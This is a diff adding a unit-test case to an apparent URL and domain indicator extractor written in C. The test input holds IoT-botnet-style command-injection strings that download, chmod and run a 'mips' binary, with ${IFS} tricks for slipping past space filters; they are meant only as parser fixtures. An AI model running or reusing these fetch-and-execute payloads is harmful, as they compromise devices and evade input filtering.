@@ -2878,6 +2878,16 @@ test_keyed_values(void **state)
 	    "url http://s.com/c++-tutorial public\ndomain s.com public\n"
 	    "url http://t.com/a+-+b public\ndomain t.com public\n"
 	    "url http://u.com/q?x=a+-O+b public\ndomain u.com public\n");
+	/* ... an encoded blank after the ';' too, and a shell's variable
+	 * for a blank (before, ";+chmod+777+mips;+./mips" and "mips$"
+	 * stayed on) */
+	expect("$(cd+/tmp;+wget+http://v.com/bins/mips;+chmod+777+mips;"
+	    "+./mips+tplink) wget${IFS}http://w.com/mips${IFS}-O${IFS}m "
+	    "wget$IFS$9http://x.com/a.sh$IFS$9-O http://y.com/a;+b=c",
+	    "url http://v.com/bins/mips public\ndomain v.com public\n"
+	    "url http://w.com/mips public\ndomain w.com public\n"
+	    "url http://x.com/a.sh public\ndomain x.com public\n"
+	    "url http://y.com/a;+b=c public\ndomain y.com public\n");
 }
 
 /* A host behind a scheme that is no web URL is an indicator all the
